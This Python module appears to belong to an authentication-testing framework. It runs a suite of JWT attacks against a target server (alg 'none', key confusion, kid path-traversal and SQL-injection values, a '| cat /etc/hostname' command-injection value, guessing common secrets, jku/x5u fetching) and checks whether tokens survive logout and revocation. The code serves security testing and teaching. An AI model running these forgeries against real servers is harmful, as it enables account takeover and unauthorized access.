"""Tokens: which notes does the server believe, and until when?

What only the issuer can sign is played where its key is known: it stands for a token made for another purpose, by
an older version or by a sister service, and for what a leaked key must not be able to do.
"""

from __future__ import annotations

import json
import socket
import tempfile
import threading
import time
import zlib
from collections.abc import Iterable, Mapping
from contextlib import suppress
from hmac import compare_digest, digest
from pkgutil import get_data

from authref.attacks.client import Client
from authref.attacks.scene import (
    Group,
    NotPlayed,
    Outcome,
    Scene,
    changed,
    has_a_token,
    judge,
    judge_each,
    must,
    read_part,
    signed,
    write_part,
)
from authref.keys import fresh_keys

TOKENS = Group("tokens", has_a_token)
attack = TOKENS.attack

# What tutorials, templates and defaults sign with: where those who guess begin.
_WORDS = """
secret Secret SECRET secretkey secret_key secret-key SecretKey SECRET_KEY my-secret my_secret mysecret mySecret
mysecretkey my-secret-key my_secret_key mySecretKey supersecret super-secret super_secret superSecret supersecretkey
super-secret-key super_secret_key topsecret top-secret top_secret verysecret very-secret very_secret_key shhhhh
shhhh shhh jwt jwtsecret jwt-secret jwt_secret jwtSecret JWT_SECRET jwt_secret_key JWT_SECRET_KEY jwtsecretkey
jwtkey jwt-key key mykey my-key your-256-bit-secret your-384-bit-secret your-512-bit-secret your-secret your_secret
your-secret-key your_secret_key yoursecret yourSecretKey your_jwt_secret your-jwt-secret changeme change-me
change_me changeit change_this changethis CHANGE_ME please-change-me replace-me default dev development dev-secret
devsecret test testing test-secret testsecret test_secret testkey example example_key password Password password1
passw0rd pass admin root toor token tokens token-secret access-secret access_token_secret refresh-secret auth
auth-secret auth_secret session session-secret keyboard-cat flask django-insecure insecure node express helloworld
qwerty letmein iloveyou 123456 12345678 123456789 1234567890 0123456789abcdef abc123 abcdef abcdefgh
a-string-secret-at-least-256-bits-long ThisIsASecretKey thisisasecret this-is-a-secret thisIsMySecretKey hello x 0
null none undefined
"""
SECRETS = tuple(_WORDS.split())
PHRASES = ("keyboard cat", "my secret", "this is a secret", "your secret key", "change me", "super secret key", "")


def alices(scene: Scene) -> tuple[str, str, str]:
    """The three parts of an honest token."""
    parts = scene.alice_token.split(".")
    if len(parts) != 3:
        raise NotPlayed("its tokens are no JSON Web Tokens")
    return parts[0], parts[1], parts[2]


def try_all(scene: Scene, tokens: Iterable[tuple[str, str]]) -> Outcome:
    """What comes of showing each of these."""
    answers = ((what, scene.token_me(token)) for what, token in tokens)
    return judge_each((what, answer, scene.succeeded(answer)) for what, answer in answers)


def forge_all(scene: Scene, part: str, tried: Mapping[str, Mapping[str, object]]) -> Outcome:
    """What comes of honest tokens with other members in this part, rightly signed."""
    honest = scene.token_me(scene.forged())
    must(scene, honest, "a token that we signed like the server")
    tokens = ((what, scene.forged(**{part: members})) for what, members in tried.items())
    return try_all(scene, ((what, token) for what, token in tokens if token != scene.forged()))


@attack(
    17, has="nothing", gains="any account", counts="a token without a signature is believed", read="jwt.py:_members",
    tiny="tiny.py:Tokens.sign", wstg="SESS-10", asvs="9.1.2", cwe=347, exercise="jwt-none",
)  # fmt: skip
def alg_none(scene: Scene) -> Outcome:
    """`none`, in all its spellings, with no signature and with an old one"""
    header, payload, signature = alices(scene)
    first = read_part(header)
    kinds: list[object] = ["none", "None", "NONE", "nOnE", " none", "none ", "", None, [], 0]
    tokens = [
        (repr(kind), f"{write_part({**first, 'alg': kind})}.{payload}.{end}")
        for kind in kinds
        for end in ("", signature)
    ]
    return try_all(scene, tokens)


@attack(
    17, has="a token of their own", gains="another role or another account", counts="a changed payload is believed",
    read="jwt.py:_check_signature", tiny="tiny.py:Tokens.authenticate", wstg="SESS-10", asvs="9.1.1", cwe=347,
    exercise="tiny-verify",
)  # fmt: skip
def changed_payload(scene: Scene) -> Outcome:
    """The payload says something else than what was signed"""
    header, payload, signature = alices(scene)
    others: dict[str, dict[str, object]] = {
        "role": {"role": "admin"},
        "sub": {"sub": "somebody-else"},
        "exp": {"exp": 4_000_000_000},
    }
    tokens = (
        (name, f"{header}.{write_part({**read_part(payload), **more})}.{signature}") for name, more in others.items()
    )
    return try_all(scene, tokens)


@attack(
    17, has="a token", gains="any account", counts="a part of a signature, or none, is enough",
    read="jwt.py:_check_signature", tiny="tiny.py:Tokens.authenticate", wstg="SESS-10", asvs="9.1.1", cwe=347,
    exercise="half-a-signature",
)  # fmt: skip
def half_a_signature(scene: Scene) -> Outcome:
    """A signature that is empty, cut, doubled or changed at its end"""
    header, payload, signature = alices(scene)
    other = "A" if signature[20] != "A" else "B"
    ends = {
        "none": "",
        "one sign": signature[0],
        "half": signature[: len(signature) // 2],
        "but one": signature[:-1],
        "twice": signature * 2,
        "one changed": signature[:20] + other + signature[21:],
    }
    return try_all(scene, ((what, f"{header}.{payload}.{end}") for what, end in ends.items()))


@attack(
    17, has="a token, and a list of published keys", gains="any account, for as long as the key is used",
    counts="one of the published secrets made the signature", read="keys.py:check_keys", tiny="tiny.py:KEY",
    wstg="SESS-10", asvs="11.2.3", cwe=521, exercise="published-keys",
)  # fmt: skip
def published_secret(scene: Scene) -> Outcome:
    """The key is a common word, or stands in a tutorial"""
    header, payload, signature = alices(scene)
    listed = (get_data("authref", "published-keys.txt") or b"").decode().splitlines()
    keys = [each.encode() for each in (*SECRETS, *PHRASES)] + [bytes.fromhex(line.split()[0]) for line in listed]
    text = f"{header}.{payload}".encode()
    hashes = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
    name = hashes.get(str(read_part(header).get("alg")))
    if name is None:
        raise NotPlayed("its tokens are not signed with a shared secret")
    found = any(compare_digest(write_part(digest(key, text, name)), signature) for key in keys)
    return Outcome(found, f"{len(keys)} secrets tried at home" + " and one fits" * found)


@attack(
    17, has="nothing", gains="any account", counts="the key that the token brings is used", read="jwt.py:_key_id",
    tiny="tiny.py:Tokens.sign", wstg="SESS-10", asvs="9.1.3", cwe=347, exercise="jwt-alg",
)  # fmt: skip
def key_in_the_token(scene: Scene) -> Outcome:
    """The token brings its own key: `jwk`"""
    header, payload, _ = alices(scene)
    key, claims = b"eve's own key of thirty-two bytes", read_part(payload)
    jwk = {"kty": "oct", "k": write_part(key), "alg": "HS256"}
    headers: dict[str, dict[str, object]] = {
        "jwk": {"jwk": jwk},
        "jwk and its kid": {"jwk": {**jwk, "kid": "eve"}, "kid": "eve"},
        "jwk alone": {"jwk": jwk, "kid": None},
        "x5c": {"x5c": [write_part(key)]},
    }
    tokens = ((what, signed(changed(read_part(header), more), claims, key)) for what, more in headers.items())
    return try_all(scene, tokens)


@attack(
    17, has="a web server", gains="any account, or a server that fetches whatever they name", read="jwt.py:_key_id",
    counts="the server fetches a key, or believes the token", tiny="tiny.py:Tokens.sign", wstg="INPV-19", asvs="9.1.3",
    cwe=918, exercise="jwt-alg",
)  # fmt: skip
def key_from_an_address(scene: Scene) -> Outcome:
    """The token says where to fetch its key: `jku`, `x5u`"""
    header, payload, _ = alices(scene)
    claims, visited = read_part(payload), threading.Event()

    def listen() -> None:
        with listener.accept()[0] as sock:
            sock.settimeout(PAUSE)
            with suppress(OSError):
                if sock.recv(3) == b"end":
                    return
            visited.set()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        thread = threading.Thread(target=listen)
        thread.start()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/keys.json"
        headers = [{"jku": url}, {"x5u": url}, {"kid": url}]
        tokens = [(next(iter(more)), signed({**read_part(header), **more}, claims, b"eve" * 12)) for more in headers]
        try:
            outcome = try_all(scene, tokens)
        finally:
            with socket.create_connection(listener.getsockname()) as sock:  # whoever fetches has come before
                sock.sendall(b"end")
            thread.join()
    return Outcome(True, "the server came to fetch it") if visited.is_set() else outcome


PAUSE = 2.0  # seconds that a server that fetches keys has to ask for them, once it has come


@attack(
    17, has="nothing", gains="any account", counts="a `kid` of the attacker's choice leads to a key that they know",
    read="jwt.py:verify", tiny="tiny.py:Tokens.sign", wstg="INPV-11", asvs="9.1.3", cwe=22, exercise="jwt-create",
)  # fmt: skip
def kid_that_leads_away(scene: Scene) -> Outcome:
    """A `kid` that is a path, a query or nothing"""
    header, payload, _ = alices(scene)
    claims = read_part(payload)
    kids: list[tuple[object, bytes]] = [
        ("../../../../../../dev/null", b""),
        ("/dev/null", b""),
        ("x' UNION SELECT 'eve'-- ", b"eve"),
        ("", b""),
        (None, b""),
        (0, b""),
        ([], b""),
        ("| cat /etc/hostname", b""),
        ("k" * 10_000, b""),
        ("__class__", b""),
    ]
    return try_all(
        scene, ((str(kid)[:20], signed({**read_part(header), "kid": kid}, claims, key)) for kid, key in kids)
    )


@attack(
    17, has="nothing", gains="any account", counts="a token signed with nothing is believed", read="jwt.py:_signature",
    tiny="tiny.py:Tokens.sign", wstg="SESS-10", asvs="11.2.3", cwe=326, exercise="jwt-sign",
)  # fmt: skip
def empty_key(scene: Scene) -> Outcome:
    """A token signed with an empty key, or one of zeros"""
    header, payload, _ = alices(scene)
    keys = {"empty": b"", "a zero": b"\0", "32 zeros": bytes(32), "its kid": str(read_part(header).get("kid")).encode()}
    claims = read_part(payload)
    return try_all(scene, ((what, signed(read_part(header), claims, key)) for what, key in keys.items()))


@attack(
    17, has="a token that was signed by another algorithm", gains="a choice of how it is checked",
    counts="the token's algorithm is used, and not the server's", read="jwt.py:_members", tiny="tiny.py:Tokens.sign",
    wstg="SESS-10", asvs="9.1.2", cwe=757, exercise="jwt-alg",
)  # fmt: skip
def another_algorithm(scene: Scene) -> Outcome:
    """Another algorithm than the server's own, with the right key"""
    if not scene.target.key:
        raise NotPlayed("only its issuer can sign this, and its key is not known")
    must(scene, scene.token_me(scene.forged()), "a token that we signed like the server")
    header, payload, _ = map(str, alices(scene))
    first, claims, key = read_part(header), read_part(payload), scene.target.key
    tokens = [
        (name, signed({**first, "alg": name}, claims, key, made))
        for name, made in (
            ("HS384", "sha384"),
            ("HS512", "sha512"),
            ("hs256", "sha256"),
            ("RS256", "sha256"),
            ("", "sha256"),
            ("HS256 ", "sha256"),
        )
    ]
    tokens += [(repr(other), signed({**first, "alg": other}, claims, key)) for other in (["HS256"], True)]
    tokens.append(("no alg", signed(changed(first, {"alg": None}), claims, key)))
    return try_all(scene, tokens)


@attack(
    17, has="a token with an extension that this server does not know", gains="what the extension forbids",
    counts="a token with `crit` is believed", read="jwt.py:_members", tiny="tiny.py:Tokens.authenticate",
    wstg="SESS-10", asvs="9.1.1", cwe=345, exercise="jwt-alg",
)  # fmt: skip
def extension_passed_over(scene: Scene) -> Outcome:
    """An extension that must be understood is passed over: `crit`"""
    return forge_all(
        scene,
        "header",
        {
            "crit": {"crit": ["exp"], "exp": 1},
            "crit, empty": {"crit": []},
            "b64": {"crit": ["b64"], "b64": False},
            "crit, unknown": {"crit": ["http://eve.example/x"], "http://eve.example/x": 1},
        },
    )


@attack(
    17, has="the key, leaked or shared with another service",
    gains="the server's memory, by a small token that unpacks to a large one",
    counts="a compressed payload is unpacked", read="jwt.py:_read_object", tiny="tiny.py:Tokens.authenticate",
    wstg="SESS-10", asvs="9.1.1", cwe=409,
)  # fmt: skip
def packed_token(scene: Scene) -> Outcome:
    """A compressed payload is unpacked: `zip`"""
    must(scene, scene.token_me(scene.forged()), "a token that we signed like the server")
    header, payload, _ = alices(scene)
    text = json_text(payload).encode()
    packers = {"deflate": zlib.compressobj(wbits=-15), "zlib": zlib.compressobj(), "gzip": zlib.compressobj(wbits=31)}
    head = {**read_part(header), "zip": "DEF"}
    packed = ((name, packer.compress(text) + packer.flush()) for name, packer in packers.items())
    return try_all(scene, ((name, signed(head, data, scene.target.key)) for name, data in packed))


@attack(
    17, has="the public key", gains="any account", read="jwt.py:_members",
    counts="an HMAC made with the public key's bytes is believed", tiny="tiny.py:Tokens.sign", wstg="SESS-10",
    asvs="9.1.2", cwe=347, exercise="jwt-alg",
)  # fmt: skip
def public_key_as_secret(scene: Scene) -> Outcome:
    """A public key is taken for a shared secret: RS256 becomes HS256"""
    key = scene.target.public_key
    if not key:
        raise NotPlayed("it has no public key, or none was given")
    header, payload, _ = alices(scene)
    claims, first = read_part(payload), read_part(header)
    forms = {"as it is": key, "without its last line end": key.rstrip(b"\n"), "with one": key.rstrip(b"\n") + b"\n"}
    tokens = [(what, signed({**first, "alg": "HS256"}, claims, each)) for what, each in forms.items()]
    return try_all(scene, [*tokens, ("under its own name", signed(first, claims, key))])


@attack(
    17, has="a token that the same key signed for another purpose",
    gains="access with a token that was not made for it", counts="a token of another type is believed",
    read="jwt.py:_key_id", tiny="tiny.py:Tokens.authenticate", wstg="SESS-10", asvs="9.2.2", cwe=843,
    exercise="jwt-create",
)  # fmt: skip
def token_of_another_type(scene: Scene) -> Outcome:
    """A token that was made for something else"""
    header, claims = (read_part(part) for part in alices(scene)[:2])
    kinds = {"none": None, "JWT": "JWT", "refresh": "rt+jwt", "a list": ["at+jwt"], "reset": "reset+jwt"}
    if header.get("typ") not in (None, "JWT"):
        return forge_all(scene, "header", {what: {"typ": kind} for what, kind in kinds.items()})
    named = next((name for name in ("type", "token_type", "token_use", "purpose") if name in claims), None)
    if named:
        return forge_all(scene, "claims", {what: {named: kind} for what, kind in kinds.items()})
    if "aud" in claims:
        raise NotPlayed("its tokens are told apart by their audience (see token-for-somebody-else)")
    return forge_all(scene, "header", {"reset, though no token here says what it is for": {"typ": "reset+jwt"}})


@attack(
    17, has="an old token", gains="access without an end", counts="a token without a valid `exp` is believed",
    read="jwt.py:_check_times", tiny="tiny.py:Tokens.authenticate", wstg="SESS-10", asvs="9.2.1", cwe=613,
    exercise="jwt-times",
)  # fmt: skip
def token_without_an_end(scene: Scene) -> Outcome:
    """A token that has expired, or whose `exp` is missing or no date"""
    if "exp" not in read_part(alices(scene)[1]):
        return Outcome(True, "its own tokens have no `exp`")
    now = int(time.time())
    ends: dict[str, object] = {
        "over": now - 600,  # some allow for clocks that differ
        "over, long ago": 1,
        "none": None,
        "a text": "never",
        "false": False,
        "a list": [now + 900],
        "NaN": float("nan"),
        "infinite": float("inf"),
        "negative": -1,
    }
    return forge_all(scene, "claims", {what: {"exp": end} for what, end in ends.items()})


@attack(
    17, has="a token that is not valid yet", gains="access today", counts="a token whose time has not come is believed",
    read="jwt.py:_check_times", tiny="tiny.py:Tokens.authenticate", wstg="SESS-10", asvs="9.2.1", cwe=345,
    exercise="jwt-times",
)  # fmt: skip
def token_of_tomorrow(scene: Scene) -> Outcome:
    """A token whose `nbf` has not come yet"""
    ahead = int(time.time()) + 3600
    return forge_all(
        scene,
        "claims",
        {
            "nbf ahead": {"nbf": ahead},
            "nbf as text": {"nbf": str(ahead)},
            "nbf in a list": {"nbf": [ahead]},
            "nbf infinite": {"nbf": float("inf")},
        },
    )


@attack(
    17, has="a token that another issuer signed with the same key", gains="access here",
    counts="another issuer's token is believed", read="jwt.py:verify", tiny="tiny.py:Tokens.authenticate",
    wstg="SESS-10", asvs="9.1.3", cwe=345, exercise="issuer-prefix",
)  # fmt: skip
def issuer_that_looks_alike(scene: Scene) -> Outcome:
    """Another issuer, or one whose name begins like ours"""
    ours = str(read_part(alices(scene)[1]).get("iss", ""))
    if not ours:
        raise NotPlayed("its tokens name no issuer")
    others: dict[str, object] = {
        "none": None,
        "a longer name": ours + ".evil.example",
        "a shorter name": ours[:-1],
        "capitals": ours.upper(),
        "a list": [ours],
        "another": "https://evil.example",
    }
    return forge_all(scene, "claims", {what: {"iss": each} for what, each in others.items()})


@attack(
    17, has="a token for another service", gains="access to this one",
    counts="a token for another audience is believed", read="jwt.py:_is_for", tiny="tiny.py:Tokens.authenticate",
    wstg="SESS-10", asvs="9.2.3", cwe=346,
)  # fmt: skip
def token_for_somebody_else(scene: Scene) -> Outcome:
    """A token for another audience, alone or in a list"""
    ours = str(read_part(alices(scene)[1]).get("aud", ""))
    others: dict[str, object] = {
        "none": None,
        "another": "shop",
        "a list without ours": ["shop", "mail"],
        "empty": [],
        "a longer name": ours + "-admin",
        "an object": {ours: True},
    }
    return forge_all(scene, "claims", {what: {"aud": each} for what, each in others.items()})


@attack(
    15, has="a second program that reads the same tokens", gains="a token that the two read differently",
    counts="such a payload is believed", read="wire.py:_without_duplicates", tiny="tiny.py:Tokens.authenticate",
    wstg="SESS-10", asvs="15.3.7", cwe=235,
)  # fmt: skip
def claim_twice(scene: Scene) -> Outcome:
    """A token whose payload has one claim twice, or is no JSON object"""
    must(scene, scene.token_me(scene.forged()), "a token that we signed like the server")
    header, payload, _ = alices(scene)
    claims, name = json_text(payload), next(iter(read_part(payload)))
    texts = {
        f"{name} twice, ours last": f'{{"{name}": "x", {claims[1:]}',
        f"{name} twice, ours first": f'{claims[:-1]}, "{name}": "x"}}',
        f"{name} twice, escaped": f'{{"\\u{ord(name[0]):04x}{name[1:]}": "x", {claims[1:]}',
        "two values": claims + "{}",
        "a list": f"[{claims}]",
    }
    first = read_part(header)
    tokens = [(what, signed(first, text.encode(), scene.target.key)) for what, text in texts.items()]
    tokens.append(("in UTF-16", signed(first, claims.encode("utf-16"), scene.target.key)))
    tokens.append(("with a BOM", signed(first, b"\xef\xbb\xbf" + claims.encode(), scene.target.key)))
    return try_all(scene, tokens)


def json_text(part: str) -> str:
    """What a part says, as text."""
    return json.dumps(read_part(part))


@attack(
    14, has="a token on a list of revoked ones", gains="a second spelling that is not on the list",
    counts="another spelling is believed", read="jwt.py:decode", tiny="tiny.py:Tokens.authenticate", wstg="SESS-10",
    asvs="9.1.1", cwe=178, exercise="base64url",
)  # fmt: skip
def another_spelling(scene: Scene) -> Outcome:
    """One token in two spellings: padding, blanks, spare bits, a fourth part"""
    header, payload, signature = alices(scene)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet[alphabet.index(signature[-1]) ^ 1]  # of 43 signs the last one has two bits to spare
    tokens = {
        "padded": f"{header}.{payload}.{signature}=",
        "spare bits": f"{header}.{payload}.{signature[:-1]}{last}",
        "a blank": f"{header}.{payload}. {signature}",
        "a dot more": f"{header}.{payload}.{signature}.",
        "a part more": f"{header}.{payload}.{signature}.x",
        "a byte more": f"{header}.{payload}.{signature}A",
        "a dot before": f".{header}.{payload}.{signature}",
        "a line end": f"{header}.{payload}.{signature}%0a",
    }
    return try_all(scene, tokens.items())


@attack(
    14, has="a log, a browser history or a Referer", gains="the token", counts="a token in the URL is taken",
    read="app/__init__.py:App._answer", tiny="tiny.py:Tokens.authenticate", wstg="SESS-04", asvs="14.2.1", cwe=598,
)  # fmt: skip
def token_in_the_address(scene: Scene) -> Outcome:
    """The token may stand in the URL"""
    names = ("access_token", "token", "jwt", "authorization")
    answers = ((name, scene.client().send(f"{scene.routes.token_me}?{name}={scene.alice_token}")) for name in names)
    return judge_each((name, answer, scene.succeeded(answer)) for name, answer in answers)


@attack(
    14, has="a page of another site", gains="requests with a token that browsers send by themselves",
    counts="a token in a cookie is taken", read="tokens.py:Tokens._claims", tiny="tiny.py:Tokens.authenticate",
    wstg="SESS-02", asvs="3.5.1", cwe=352, exercise="tokens-authenticate",
)  # fmt: skip
def token_in_a_cookie(scene: Scene) -> Outcome:
    """The token may stand in a cookie"""
    tried = {name: f"{name}={scene.alice_token}" for name in (scene.routes.cookie, "token", "access_token", "jwt")}
    answers = (
        (name, scene.client().send(scene.routes.token_me, headers={"Cookie": cookie})) for name, cookie in tried.items()
    )
    return judge_each((name, answer, scene.succeeded(answer)) for name, answer in answers)


@attack(
    2, has="a gateway that looks at one of the two", gains="what the other one opens",
    counts="a request with two Authorization headers is answered", read="wire.py:Request.header",
    tiny="tiny.py:Tokens.authenticate", wstg="INPV-04", asvs="15.3.7", cwe=436, exercise="request-header",
)  # fmt: skip
def two_credentials(scene: Scene) -> Outcome:
    """Two Authorization headers, one of them good"""
    good, bad = f"Bearer {scene.alice_token}", "Bearer a.b.c"
    orders = {"good first": f"{good}\r\nAuthorization: {bad}", "good last": f"{bad}\r\nAuthorization: {good}"}
    answers = (
        (order, scene.client().send(scene.routes.token_me, headers={"Authorization": lines}))
        for order, lines in orders.items()
    )
    return judge_each((order, answer, scene.succeeded(answer)) for order, answer in answers)


@attack(
    15, has="a token", gains="the password or hash in it", counts="the payload holds a secret",
    read="tokens.py:Tokens._answer", tiny="tiny.py:Tokens.log_in", wstg="SESS-10", asvs="14.2.6", cwe=312,
    exercise="jwt-anatomy",
)  # fmt: skip
def secret_in_the_payload(scene: Scene) -> Outcome:
    """A token that anybody can read holds a password or a hash"""
    claims = read_part(alices(scene)[1])
    found = [
        name
        for name, value in claims.items()
        if "pass" in name.lower()
        or "hash" in name.lower()
        or str(value).startswith("$2")
        or value == scene.alice.password
    ]
    return Outcome(bool(found), f"claims: {', '.join(claims)}")


@attack(
    18, has="a token that was stolen once", gains="access for days, or for ever", read="tokens.py:Tokens._answer",
    counts="an access token lives for more than a day, or for ever", tiny="tiny.py:Tokens.log_in", wstg="SESS-10",
    asvs="7.1.1", cwe=613, exercise="access-ends",
)  # fmt: skip
def token_for_a_year(scene: Scene) -> Outcome:
    """An access token lives for more than a day"""
    end = read_part(alices(scene)[1]).get("exp")
    lifetime = end - time.time() if isinstance(end, int | float) else float("inf")
    return Outcome(lifetime > 86_400, f"it ends in {lifetime:.0f} s")


def token_after(scene: Scene, change: str) -> Outcome:
    """Whether a token, of which somebody has a copy, outlives what its owner or an admin does."""
    account, routes = scene.new_account() if change == "logout" else scene.account_to_lose(), scene.routes
    token, refresh = scene.tokens(account)
    must(scene, scene.token_me(token), "an honest token")
    owner = scene.client() if change == "logout" else scene.logged_in(account)
    if change == "logout":
        owner.cookies.clear()
        fields = {routes.refresh_token: refresh} if refresh else {}
        bearer = {} if refresh else {"Authorization": f"Bearer {token}"}
        must(scene, owner.send(routes.token_log_out, fields, bearer), "an honest logout")
    elif change == "password":
        fields = {routes.current_password: account.password, routes.new_password: "another horse entirely"}
        must(scene, scene.post(owner, routes.change_password, fields), "a new password")
    else:
        end_account(scene, owner, change)
    answer = scene.token_me(token)
    return judge(answer, scene.succeeded(answer))


def end_account(scene: Scene, owner: Client, change: str) -> None:
    """Disable or delete the owner's account."""
    if change == "delete":
        scene.delete(owner)
    else:
        route = scene.with_id(scene.routes.change_user, scene.id_of(owner))
        must(scene, scene.post(scene.admin, route, json.loads(scene.routes.disable)), "the admin's change")


@attack(
    18, has="a copy of the token", gains="access until it ends", counts="the token works after the logout",
    read="revocation.py:Revocation.is_revoked", tiny="tiny.py:Tokens.log_out", wstg="SESS-06", asvs="7.4.1", cwe=613,
    exercise="access-ends",
)  # fmt: skip
def token_after_logout(scene: Scene) -> Outcome:
    """The token works after the logout"""
    return token_after(scene, "logout")


@attack(
    18, has="a copy of the token", gains="access until it ends", counts="the token works after the new password",
    read="revocation.py:Revocation.is_revoked", wstg="SESS-07", asvs="7.4.3", cwe=613, exercise="access-ends",
    needs=("change_password",),
)  # fmt: skip
def token_after_password_change(scene: Scene) -> Outcome:
    """The token works after a new password"""
    return token_after(scene, "password")


@attack(
    18, has="a token on the day when they are thrown out", gains="access until it ends",
    read="revocation.py:Revocation.is_revoked", counts="the token works after the account is disabled", wstg="SESS-07",
    asvs="7.4.2", cwe=613, exercise="access-ends", needs=("change_user",),
)  # fmt: skip
def token_after_disable(scene: Scene) -> Outcome:
    """A disabled account's token works"""
    return token_after(scene, "disable")


@attack(
    18, has="a copy of the token", gains="access until it ends", counts="the token works after the account is gone",
    read="revocation.py:Revocation.is_revoked", wstg="SESS-07", asvs="7.4.2", cwe=613, exercise="access-ends",
    needs=("delete_user",),
)  # fmt: skip
def token_after_delete(scene: Scene) -> Outcome:
    """A deleted account's token works"""
    return token_after(scene, "delete")


@attack(
    18, has="a token of the old key", gains="access until the token ends", counts="a token of the old key works",
    read="keys.py:read_keys", wstg="SESS-10", asvs="11.2.2", cwe=324, exercise="access-ends", slow=True,
)  # fmt: skip
def token_after_key_change(scene: Scene) -> Outcome:
    """A token of the old key works after the key was changed"""
    if scene.target.another is None:
        raise NotPlayed("its key is not ours to change")
    older, newer = fresh_keys(), fresh_keys()
    with tempfile.TemporaryDirectory() as folder:
        store = ("--store", f"sqlite:{folder}/users.db")
        with scene.target.another(store, older) as before:
            token = Scene(before).alice_token
        with scene.target.another(store, {**newer, **older}) as after:
            answer = Scene(after).token_me(token)
    return judge(answer, scene.succeeded(answer))
